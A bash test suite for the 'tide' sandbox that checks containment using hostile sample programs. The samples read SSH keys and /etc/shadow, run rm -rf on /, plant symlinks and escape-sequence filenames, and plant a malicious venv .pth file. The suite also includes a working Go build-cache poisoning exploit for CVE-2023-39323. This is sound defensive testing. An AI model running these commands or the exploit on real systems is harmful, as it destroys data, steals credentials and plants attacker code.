# What a program can see and change: not the host's secrets, not tide's
# data, nothing outside its working folder and scratch areas, and never
# the user's files.
. "$TESTS/security/hostile.bash"

# A secret in the real home of the user running tide, removed on exit.
plant_home_secret() {
  SECRET_DIR="$HOME/.ssh"
  mkdir -p "$SECRET_DIR"
  SECRET="$SECRET_DIR/tide-test-key-$$-$RANDOM"
  SECRET_TEXT="PRIVATE-KEY-$$-$RANDOM$RANDOM"
  printf '%s\n' "$SECRET_TEXT" >"$SECRET"
  chmod 600 "$SECRET"
  trap 'rm -f "$SECRET"' EXIT
}

test_host_secrets_are_absent() {
  plant_home_secret
  tide_db=$XDG_DATA_HOME/tide/tide.db
  "$TIDE" session new python >/dev/null 2>&1 || true
  other=$(find "$XDG_DATA_HOME/tide" -path '*/files/*' -type f | head -1)
  mkdir w && cd w
  cat >peek.py <<'P'
import os, sys
for path in sys.argv[1:]:
    try:
        with open(path, "rb") as f:
            print("READ", path, f.read(200))
    except OSError as e:
        print("no", path, e.strerror)
for d in (os.path.expanduser("~"), "/root", "/home", "/tmp", "/run", "/var", "/etc"):
    try:
        print("LIST", d, sorted(os.listdir(d)))
    except OSError as e:
        print("no", d, e.strerror)
P
  paths="$SECRET /root/.ssh /etc/shadow /etc/gshadow /etc/sudoers $tide_db ${other:-/nonexistent}"
  # Outside the sandbox the same program reads them (so the paths are right).
  outside=$(python3 peek.py $paths)
  expect_contains "$outside" "READ $SECRET b'$SECRET_TEXT"
  [ -z "$other" ] || expect_contains "$outside" "READ $other"
  run_tide run --json peek.py -- $paths
  expect_rc 0
  out=$(json_field output)
  expect_not_contains "$out" "READ"
  expect_not_contains "$out" "$SECRET_TEXT"
  expect_contains "$out" "no $SECRET No such file or directory"
  expect_contains "$out" "no /etc/shadow No such file or directory"
  expect_contains "$out" "no $tide_db No such file or directory"
  expect_contains "$out" "LIST /home/tide []"
  expect_contains "$out" "no /run No such file or directory"
  expect_contains "$out" "no /var No such file or directory"
  expect_not_contains "$out" "'.ssh'"
  expect_not_contains "$out" "'shadow'"
  expect_not_contains "$out" "'passwd-'"
  expect_contains "$out" "LIST /tmp []"
}

test_nothing_visible_anywhere_holds_a_secret() {
  # Walk every file the sandbox shows (but /proc and the read-only system
  # folders) looking for the planted secret's text or tide's data.
  plant_home_secret
  mkdir -p "$XDG_DATA_HOME/tide/sessions/99/files"
  printf '%s\n' "$SECRET_TEXT" >"$XDG_DATA_HOME/tide/sessions/99/files/other-session.py"
  mkdir w && cd w
  cat >walk.py <<'P'
import os, sys
secret = sys.argv[1].encode()
seen = hits = 0
for top in os.listdir("/"):
    if top in ("proc", "usr", "sys", "dev") or os.path.islink("/" + top):
        continue
    for root, dirs, files in os.walk("/" + top):
        for name in files:
            path = os.path.join(root, name)
            seen += 1
            if name in ("tide.db", "other-session.py", "shadow"):
                print("FOUND", path); hits += 1
            try:
                if os.lstat(path).st_size > 65536:
                    continue  # toolchains' libraries: not where a key hides
                with open(path, "rb") as f:
                    if secret in f.read():
                        print("SECRET IN", path); hits += 1
            except OSError:
                pass
print("walked", seen, "files,", hits, "hits")
P
  run_tide run --timeout 120 --json walk.py -- "$SECRET_TEXT"
  expect_rc 0
  out=$(json_field output)
  expect_contains "$out" ", 0 hits"
  n=${out#walked }
  n=${n%% files*}
  [ "$n" -gt 100 ] || fail "the walk saw only $n files: it did not look"
}

test_writes_outside_work_tmp_and_home_are_refused() {
  mkdir w && cd w
  marker=tide-escape-$$-$RANDOM
  cat >write.py <<'P'
import os, sys
marker = sys.argv[1]
for d in ("/", "/etc", "/usr", "/usr/bin", "/bin", "/root", "/home", "/proc", "/dev", "/build", "/work/..", "/etc/ssl"):
    try:
        with open(os.path.join(d, marker), "w") as f:
            f.write("x")
        print("WROTE", d)
    except OSError as e:
        print("refused", d, e.strerror)
for path in ("/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/etc/passwd", "/usr/bin/python3"):
    try:
        with open(path, "a") as f:
            f.write("x")
        print("WROTE", path)
    except OSError as e:
        print("refused", path, e.strerror)
for d in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/work"):
    with open(os.path.join(d, marker), "w") as f:
        f.write("ok")
    print("wrote", d)
P
  run_tide run --json write.py -- "$marker"
  expect_rc 0
  out=$(json_field output)
  expect_not_contains "$out" "WROTE"
  for d in / /etc /usr /usr/bin /root /proc /dev /etc/ssl; do
    expect_contains "$out" "refused $d "
  done
  expect_contains "$out" "wrote /work"
  for d in / /etc /usr /usr/bin /root /home /tmp /dev/shm "$T"; do
    [ ! -e "$d/$marker" ] || { rm -f "$d/$marker"; fail "$d/$marker appeared on the host"; }
  done
  expect_eq "$(json_get "$OUT" '[f["name"] for f in j["generated_files"]]')" "[\"$marker\"]"
}

test_tmp_shm_and_home_do_not_outlive_the_run() {
  mkdir w && cd w
  cat >leave.py <<'P'
import os, sys
for d in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    if os.listdir(d):
        print("LEFTOVER", d, os.listdir(d))
    open(os.path.join(d, "left-" + sys.argv[1]), "w").write("x")
print("checked")
P
  run_tide run --json leave.py -- one
  expect_eq "$(json_field output)" "checked"
  run_tide run --json leave.py -- two
  expect_eq "$(json_field output)" "checked"
  [ ! -e /tmp/left-one ] && [ ! -e /dev/shm/left-one ] || fail "a run wrote into the host's /tmp or /dev/shm"
}

test_planted_symlinks_and_hard_links_are_not_followed() {
  plant_home_secret
  mkdir w && cd w
  printf 'mine\n' >mine.txt
  cat >plant.py <<'P'
import os, sys
secret = sys.argv[1]
os.symlink(secret, "secret-link")             # a host path
os.symlink("/etc/passwd", "passwd-link")      # the sandbox's own file
os.symlink("../../../../../../" + secret, "relative-link")
os.symlink("/etc", "etc-dir")                 # a folder
os.mkdir("sub")
os.symlink("/root", "sub/root-link")
open("linked.txt", "w").write("two names")
os.link("linked.txt", "hard-link")            # one file, two names
os.link("mine.txt", "hard-mine")              # a second name for the user's file
os.mkfifo("fifo")                             # would block a naive reader
open(b"bad-\xff-name", "w").write("x")        # not UTF-8
open("esc-\x1b]0;pwned\x07", "w").write("x")  # a terminal escape
open("real.txt", "w").write("real output\n")
print("planted")
P
  mkdir "$T/gen"
  run_tide run --json --generated-dir "$T/gen" plant.py -- "$SECRET"
  expect_rc 0
  expect_eq "$(json_get "$OUT" '[f["name"] for f in j["generated_files"]]')" '["real.txt"]'
  expect_eq "$(json_get "$OUT" 'j["generated_files_truncated"]')" true
  expect_eq "$(cd "$T/gen" && find . | sort | tr '\n' ' ')" ". ./real.txt "
  expect_eq "$(cat "$T/gen/real.txt")" "real output"
  grep -rq "$SECRET_TEXT" "$T/gen" && fail "the secret was copied out"
  expect_eq "$(ls)" "$(printf 'mine.txt\nplant.py')" "the user's folder"
  expect_eq "$(cat mine.txt)" mine
}

# watch_fifo FIFO MARK: a host process waiting on FIFO as a device waits
# to be opened; MARK appears when anyone opens FIFO to read.  Sets WATCHER.
watch_fifo() {
  timeout 30 python3 -c 'import os, sys
os.open(sys.argv[1], os.O_WRONLY)
open(sys.argv[2], "w").write("opened")' "$1" "$2" &
  WATCHER=$!
}

# A project may ship a symlink d -> a host folder (/dev, ~/.ssh), and the
# program make d a folder of its own in its layer and write d/NAME there.
# Telling whether d/NAME is new, tide must not look at the user's
# folder's d/NAME, which is the host's NAME: opening a fifo or a device
# acts (here a host process waits on a fifo), and comparing the bytes of
# a file, or a symlink's target, tells the program whether it guessed
# them.  Nor may a fifo in the folder itself be opened.
# The build cache hashes a compile's sources before anything runs, on the
# host and maybe as root: a project's symlink out of its folder (to a host
# file, to /proc/kmsg, which a read empties) must not make tide read it.
test_the_build_cache_does_not_read_what_a_projects_symlink_names() {
  mkdir host proj proj/sub
  printf 'int secret = 1;\n' >host/secret.c
  touch -a -d 2000-01-01 host/secret.c
  mkfifo host/fifo.c
  ln -s "$T/host/secret.c" proj/evil.c
  ln -s "$T/host/fifo.c" proj/fifo.c
  ln -s "$T/host" proj/hostdir
  printf 'int helper(void) { return 41; }\n' >proj/sub/real.c
  ln -s sub/real.c proj/inside.c
  printf '#include <stdio.h>\nint helper(void);\nint main(void) { printf("%%d\\n", helper() + 1); return 0; }\n' >proj/main.c
  RC=0
  OUT=$(cd proj && timeout 60 "$TIDE" run -q main.c inside.c 2>&1 </dev/null) || RC=$?
  expect_rc 0 "$OUT"
  expect_eq "$OUT" 42
  expect_eq "$(stat -c %X host/secret.c)" "$(date -d 2000-01-01 +%s)" "the host file was read"
  # A link inside the folder is a source like any: its change is a new build.
  printf 'int helper(void) { return 1; }\n' >proj/sub/real.c
  OUT=$(cd proj && timeout 60 "$TIDE" run -q main.c inside.c 2>&1 </dev/null) || RC=$?
  expect_eq "$OUT" 2
}

test_a_symlink_in_the_folder_never_leads_tide_to_host_files() {
  mkdir host proj
  mkfifo host/fifo proj/fifo
  printf 'TOPSECRET\n' >host/secret
  touch -a -d 2000-01-01 host/secret
  ln -s target host/link
  ln -s "$T/host" proj/d
  cat >proj/main.py <<'P'
import os
os.unlink("d"); os.mkdir("d")          # only in the run's layer
for name in ("fifo", "secret"):
    open("d/" + name, "w").write("TOPSECRET\n")
os.symlink("target", "d/link")          # the host's d/link is the same
if os.path.lexists("fifo"):             # (a copy of the folder has none)
    os.unlink("fifo")
open("fifo", "w").write("x")
print("planted")
P
  local atime watchers
  atime=$(stat -c %X host/secret)
  watch_fifo host/fifo "$T/opened-host"; watchers=$WATCHER
  watch_fifo proj/fifo "$T/opened-proj"; watchers="$watchers $WATCHER"
  sleep 0.3
  run_tide run --ephemeral --json proj/main.py
  sleep 0.3
  kill $watchers 2>/dev/null || true
  wait $watchers 2>/dev/null || true
  expect_rc 0 "$ERR"
  [ ! -e opened-host ] || fail "tide opened the host's fifo through the project's symlink"
  [ ! -e opened-proj ] || fail "tide opened a fifo in the user's folder"
  expect_eq "$(stat -c %X host/secret)" "$atime" "the host file's access time (tide read it)"
  # All of them the program's: none taken for the user's, unchanged.
  expect_eq "$(json_get "$OUT" '[f["name"] for f in j["generated_files"]]')" '["d/fifo", "d/secret", "fifo"]'
  expect_eq "$(json_field generated_files_truncated)" true "the program's symlink d/link, left out"
  expect_contains "$(json_get "$OUT" 'j["notes"]')" "symlinks, hard links, fifos or devices"
  # The control: outside tide the same look goes through the symlink.
  cmp -s proj/d/secret host/secret || fail "the host's file is not where the symlink leads"
}

test_rm_rf_everything_leaves_the_user_files_intact() {
  mkdir w && cd w
  printf 'precious\n' >notes.txt
  mkdir -p deep/er && printf 'data\n' >deep/er/data.csv
  chmod 600 notes.txt
  ln -s notes.txt link
  cat >wipe.sh.py <<'P'
import os, subprocess
r = subprocess.run(["/bin/rm", "-rf", "--no-preserve-root", "/"], capture_output=True, text=True)
print("rm exit", r.returncode)
left = sorted(os.listdir("/work"))
print("work now", left)
P
  mv wipe.sh.py wipe.py
  sum=$(snapshot)
  run_tide run --json wipe.py
  expect_rc 0
  expect_contains "$(json_field output)" "work now []"
  expect_eq "$(snapshot)" "$sum" "the user's folder after rm -rf /"
  expect_eq "$(json_get "$OUT" 'j["generated_files"]')" "[]"
  [ -x /usr/bin/rm ] && [ -f /etc/passwd ] || fail "the host lost files"
  # And the next run still works.
  printf 'print("fine")\n' >ok.py
  run_tide run ok.py
  expect_eq "$OUT" fine
}

test_private_user_files_are_readable_but_never_changed() {
  # As root, the user's files are root's and may be 0600: the program
  # (an unprivileged uid) still reads them, and its writes, chmods and
  # deletes stay in its own layer.
  mkdir w && cd w
  printf 'secret but mine\n' >private.txt
  chmod 600 private.txt
  mkdir locked && printf 'inside\n' >locked/f.txt && chmod 700 locked
  cat >touch.py <<'P'
import os
print(open("private.txt").read().strip(), open("locked/f.txt").read().strip())
with open("private.txt", "a") as f:
    f.write("changed\n")
os.chmod("private.txt", 0o777)
os.remove("locked/f.txt")
os.rename("touch.py", "renamed.py")
print(open("private.txt").read().count("\n"), "lines now")
P
  sum=$(snapshot)
  run_tide run --json touch.py
  expect_rc 0
  expect_eq "$(json_field output)" "$(printf 'secret but mine inside\n2 lines now')"
  expect_eq "$(snapshot)" "$sum" "the user's folder"
  expect_eq "$(json_get "$OUT" '[f["name"] for f in j["generated_files"]]')" '["private.txt", "renamed.py"]'
}

test_a_program_in_the_home_folder_sees_only_itself() {
  # `tide run ~/x.py` must not hand the program the whole home folder.
  plant_home_secret
  prog="$HOME/tide-test-$$-$RANDOM.py"
  trap 'rm -f "$SECRET" "$prog"' EXIT
  cat >"$prog" <<'P'
import os, sys
print(sorted(os.listdir(".")))
for rel in (".ssh", sys.argv[1]):
    print(rel, os.path.exists(rel))
P
  rel=${SECRET#"$HOME"/}
  run_tide run --ephemeral --json "$prog" -- "$rel"
  expect_rc 0
  out=$(json_field output)
  expect_eq "$out" "$(printf "['%s']\n.ssh False\n%s False" "$(basename "$prog")" "$rel")"
  expect_contains "$(json_get "$OUT" 'j["notes"]')" "tide never shows a program all of $HOME"
  expect_eq "$(json_field work_narrowed)" true
}

# /tmp is every program's dumping ground (Kerberos tickets, other programs'
# files): a program run from it sees only the files it was given, while a
# folder of its own below /tmp is shown whole.  The planted file is
# world-readable, so only the sandbox keeps it away.
test_a_program_in_tmp_sees_only_itself() {
  TMP_BASE=/tmp/tide-test-$$-$RANDOM
  local prog=$TMP_BASE.py planted=$TMP_BASE-ticket own=$TMP_BASE-own
  trap 'rm -rf "$TMP_BASE".py "$TMP_BASE"-ticket "$TMP_BASE"-own' EXIT
  printf 'TICKET-%s\n' "$RANDOM" >"$planted"
  chmod 644 "$planted"
  cat >"$prog" <<'P'
import os, sys
names = os.listdir(".")
print(len(names), os.path.basename(sys.argv[1]) in names, os.path.exists(os.path.basename(sys.argv[1])))
P
  run_tide run --ephemeral --json "$prog" -- "$planted"
  expect_rc 0
  expect_eq "$(json_field output)" "1 False False" "what the program in /tmp saw"
  expect_eq "$(json_field work_narrowed)" true
  expect_contains "$(json_get "$OUT" 'j["notes"]')" "tide never shows a program all of /tmp"
  # Recorded, the run's snapshot holds its file, not the rest of /tmp.
  run_tide run --json "$prog" -- "$planted"
  expect_eq "$(json_field output)" "1 False False" "what the recorded program saw"
  run_tide files "$(json_field session_id)" --json
  expect_eq "$(json_get "$OUT" '[f["name"] for f in j["files"]]')" "[\"$(basename "$prog")\"]" "the files tide kept"
  # The control: in a folder of its own, its neighbours are there.
  mkdir "$own"
  cp "$prog" "$own/prog.py"
  cp "$planted" "$own/"
  run_tide run --ephemeral --json "$own/prog.py" -- "$planted"
  expect_eq "$(json_field output)" "2 True True" "what the program in its own folder saw"
  expect_eq "$(json_field work_narrowed)" false
}

# A folder of code someone else wrote may bring a Python venv, and tide
# takes a project's .venv: nothing of it may run outside the sandbox.  Its
# .pth file (which Python runs at start) tries to leave a mark on the host.
test_a_venv_in_the_folder_runs_only_inside_the_sandbox() {
  umask 022
  local base ver mark=$PWD/venv-ran-on-the-host
  base=$(python3 -c 'import os, sys; print(os.path.realpath(sys.executable))')
  ver=$(python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])')
  mkdir -p "repo/.venv/bin" "repo/.venv/lib/python$ver/site-packages"
  # Its version line would retitle the terminal that shows the result.
  printf 'home = %s\ninclude-system-site-packages = false\nversion = %s.0\033]0;owned\007\n' "$(dirname "$base")" "$ver" \
    >repo/.venv/pyvenv.cfg
  ln -s "$base" repo/.venv/bin/python3
  printf 'import os; open(%s, "w").write("x")\n' "'$mark'" >"repo/.venv/lib/python$ver/site-packages/evil.pth"
  printf 'import sys\nprint(sys.prefix)\n' >repo/main.py
  run_tide run --ephemeral repo/main.py
  expect_rc 0 "$ERR"
  expect_eq "$OUT" /work/.venv "the program ran with the folder's venv"
  [ ! -e "$mark" ] || fail "the venv's .pth ran on the host"
  run_tide run --ephemeral --json repo/main.py
  expect_eq "$(json_get "$OUT" 'j["toolchain"][0]["version"]')" null "a version with control characters"
}

# A project that comes with its .venv says, in pyvenv.cfg's home and where
# bin/python3 leads, which Python it was made from, and tide shows that
# Python's folders to the program: a venv naming a home folder (its
# ~/.ssh), or a folder that is no Python installation, is not used, and a
# note says why.  Each venv's Python is a script that prints what it sees.
test_a_venv_naming_a_host_folder_as_its_python_is_not_used() {
  umask 022
  local home=$T/home host=$T/host key p
  key="PRIVATE-KEY-$RANDOM$RANDOM"
  mkdir -p "$home/.ssh" "$home/bin" "$host/bin"
  printf '%s\n' "$key" >"$home/.ssh/id_ed25519"
  printf '%s\n' "$key" >"$host/secret"
  printf '#!/bin/sh\ncat %s %s 2>/dev/null\necho the venv ran\n' "$home/.ssh/id_ed25519" "$host/secret" \
    >"$home/bin/python3"
  chmod 755 "$home/bin/python3"
  # The control: the paths are right, outside the sandbox.
  expect_contains "$("$home/bin/python3")" "$key"
  # Even dressed as a Python installation, a home folder is not shown.
  mkdir -p "$home/lib/python3.11"
  : >"$home/lib/python3.11/os.py"
  # pyvenv.cfg's home: the home folder, a folder that is no Python; bin/python3 leading into the home folder.
  for p in home-cfg host-cfg home-link; do
    mkdir -p "$p/.venv/bin"
    printf 'import os, sys\nprint("python", [os.path.exists(p) for p in sys.argv[1:]])\n' >"$p/main.py"
  done
  printf 'home = %s/bin\nversion = 3.11.7\n' "$home" >home-cfg/.venv/pyvenv.cfg
  printf 'home = %s/bin\nversion = 3.11.7\n' "$host" >host-cfg/.venv/pyvenv.cfg
  printf 'home = /usr/bin\nversion = 3.11.7\n' >home-link/.venv/pyvenv.cfg
  cp "$home/bin/python3" home-cfg/.venv/bin/python3
  cp "$home/bin/python3" host-cfg/.venv/bin/python3
  ln -s "$home/bin/python3" home-link/.venv/bin/python3
  for p in home-cfg host-cfg home-link; do
    HOME=$home run_tide run --ephemeral --json "$p/main.py" -- "$home/.ssh/id_ed25519" "$host/secret"
    expect_rc 0 "$p: $ERR"
    expect_eq "$(json_field output)" "python [False, False]" "$p: what the program saw"
    expect_contains "$(json_get "$OUT" 'j["notes"]')" "tide did not use the venv $PWD/$p/.venv: the Python it was made from"
  done
  HOME=$home run_tide run --ephemeral --json home-cfg/main.py
  expect_contains "$(json_get "$OUT" 'j["notes"][0]')" ", $home, is a folder tide shows no program"
  HOME=$home run_tide run --ephemeral --json host-cfg/main.py
  expect_contains "$(json_get "$OUT" 'j["notes"][0]')" ", $host, is not a Python 3.11 installation"
}

# The venvs people make still run: one of the system's Python (home =
# /usr/bin) and one of a pyenv Python under /root, shown to the program as
# far as Python reads it (bin, lib, include), not its other folders.
test_a_venv_of_the_systems_or_a_pyenv_python_is_used() {
  umask 022
  local py d pyenv base
  # The one python3 is, when pyenv chose it; else pyenv's newest.
  pyenv=$(python3 -c 'import sys; print(sys.base_prefix)')/bin/python3
  case $pyenv in /root/.pyenv/versions/3.*) ;; *) pyenv=$(ls -d /root/.pyenv/versions/3.*/bin/python3 2>/dev/null | sort -V | tail -1) ;; esac
  [ -x "$pyenv" ] || pyenv=
  for py in /usr/bin/python3 ${pyenv:+"$pyenv"}; do
    d=p$RANDOM
    mkdir "$d"
    "$py" -m venv --without-pip "$d/.venv" || fail "$py cannot make a venv"
    base=$("$py" -c 'import sys; print(sys.base_prefix)')
    site=$("$d/.venv/bin/python3" -c 'import sysconfig; print(sysconfig.get_path("purelib"))')
    mkdir -p "$site/venvpkg"
    printf 'X = "from the venv"\n' >"$site/venvpkg/__init__.py"
    printf 'import os, sys, venvpkg\nb = sys.argv[1]\nprint(sys.prefix, venvpkg.X, os.path.isdir(b + "/lib"), os.path.isdir(b + "/share"))\n' \
      >"$d/main.py"
    run_tide run --ephemeral --json "$d/main.py" -- "$base"
    expect_rc 0 "$py: $ERR"
    # /usr is the system's: all of it is there.
    expect_eq "$(json_field output)" "/work/.venv from the venv True $([ "$base" = /usr ] && echo True || echo False)" \
      "what the program of a venv of $py saw"
    expect_eq "$(json_get "$OUT" 'j["notes"]')" "[]"
  done
  [ -n "$pyenv" ] || skip "no pyenv Python under /root/.pyenv here (the venv of /usr/bin/python3 was)"
}

test_a_program_opens_terminals_of_its_own() {
  # /dev/ptmx (glibc's posix_openpt) leads to the private devpts: Python's
  # os.openpty and pty.spawn work, and the terminals are the sandbox's own.
  # The descriptor links are there too (a shell's <(...)).
  mkdir w && cd w
  cat >pty_use.py <<'P'
import os, pty, subprocess
m, s = os.openpty()
print("openpty", os.ttyname(s))
os.write(m, b"typed\n")
print("slave read", os.read(s, 64))
print("pts", sorted(os.listdir("/dev/pts")))
pty.spawn(["/bin/sh", "-c", "test -t 0 && test -t 1 && echo spawned on a terminal"])
r = subprocess.run(["/bin/bash", "-c", "cat <(echo substituted) /dev/stdin <<<stdin"],
                   capture_output=True, text=True)
print("bash", r.stdout.split(), r.stderr.strip())
P
  run_tide run --json pty_use.py
  expect_rc 0
  out=$(json_field output)
  expect_contains "$out" "openpty /dev/pts/0"
  expect_contains "$out" "slave read b'typed\\n'"
  expect_contains "$out" "pts ['0', 'ptmx']"
  expect_contains "$out" "spawned on a terminal"
  expect_contains "$out" "bash ['substituted', 'stdin'] "
}

# A Go compile step that runs code of the project's (Go 1.19.8's cgo
# checks miss a //go:cgo_ldflag after a //line directive, CVE-2023-39323,
# so gcc runs the project's collect2) rewrites entries of Go's build cache
# so that a later build of another program links the attacker's code.
# Each session has a cache of its own: the attack reaches the attacker's
# session only, never another session's builds (nor, through tide's build
# cache, their programs).
test_a_go_compile_step_poisons_only_its_own_session() {
  command -v go >/dev/null && command -v gcc >/dev/null || skip "Go or gcc is missing"
  collect2=$(gcc -print-prog-name=collect2)
  mkdir -p att/evil victim
  victim='package main

import "fmt"

func main() { fmt.Println("victim: 6 * 7 =", 6*7) }'
  printf '%s\n' "$victim" >victim/main.go
  printf '%s\n' "$victim" >att/evil/victim.go.txt
  printf 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("victim: 6 * 7 = 41, planted") }\n' \
    >att/evil/mal.go.txt
  cat >att/main.go <<'P'
package main

/*
int answer(void) { return 42; }
*/
import "C"
import "fmt"

//line _cgo_evil.go:1
//go:cgo_ldflag "-B/work/evil/"

func main() { fmt.Println("innocent-looking program:", C.answer()) }
P
  # In the compile step: build the victim and the attacker's program with
  # the step's GOCACHE, then point the victim's compile entry at the
  # attacker's object, and leave a mark.
  cat >att/evil/collect2 <<P
#!/bin/sh
if [ ! -e /tmp/.done ]; then
  touch /tmp/.done
  C=/cache/go-build
  ls \$C/*/*-a >/tmp/a0 2>/dev/null
  cd /work && cp evil/victim.go.txt main.go && go build -o /tmp/v main.go >/dev/null 2>&1
  ls \$C/*/*-a >/tmp/a1
  cp evil/mal.go.txt main.go && go build -o /tmp/m main.go >/dev/null 2>&1
  ls \$C/*/*-a >/tmp/a2
  arch() { for e in \$(cat); do o=\$(cut -d' ' -f3 \$e); d=\$C/\$(echo \$o | cut -c1-2)/\$o-d; head -c 7 \$d 2>/dev/null | grep -q '!<arch>' && echo \$e; done; }
  V=\$(comm -13 /tmp/a0 /tmp/a1 | arch | head -1)
  M=\$(comm -13 /tmp/a1 /tmp/a2 | arch | head -1)
  if [ -n "\$V" ] && [ -n "\$M" ]; then
    mo=\$(cut -d' ' -f3 \$M); ms=\$(awk '{print \$4}' \$M)
    awk -v o=\$mo -v s=\$ms '{printf "v1 %s %s %20d %20d\n", \$2, o, s, \$5}' \$V >\$V.new && mv -f \$V.new \$V
  fi
  echo "poisoned=\$V" >\$C/PLANTED
fi
exec $collect2 "\$@"
P
  chmod +x att/evil/collect2
  run_tide run att/main.go
  expect_rc 0
  expect_contains "$OUT" "innocent-looking program: 42"
  planted=$(find "$XDG_DATA_HOME" "$XDG_CACHE_HOME" -name PLANTED)
  [ -n "$planted" ] || skip "this Go refuses the smuggled cgo flag (CVE-2023-39323 fixed): no attack to contain"
  # It reached the attacker's own session's cache, and nothing else.
  expect_eq "$(count_lines "$planted")" 1 "caches the compile step wrote into"
  case $planted in
    "$XDG_DATA_HOME"/tide/sessions/*/go-build/PLANTED) ;;
    *) fail "the compile step wrote into $planted" ;;
  esac
  # The control: in the attacker's session the user's program is
  # poisoned, so the attack did work (and tide's build cache keeps that
  # build).
  cp victim/main.go att/main.go
  run_tide run att/main.go
  expect_rc 0
  expect_eq "$OUT" "victim: 6 * 7 = 41, planted" "the victim's code built in the attacker's session"
  # The same program in a session of its own builds from its own cache,
  # and is not given the attacker's session's build from tide's.
  run_tide run victim/main.go
  expect_rc 0
  expect_eq "$OUT" "victim: 6 * 7 = 42"
  # Nor is an ephemeral run, whose compile step has a cache of its own.
  run_tide run --ephemeral victim/main.go
  expect_eq "$OUT" "victim: 6 * 7 = 42"
}
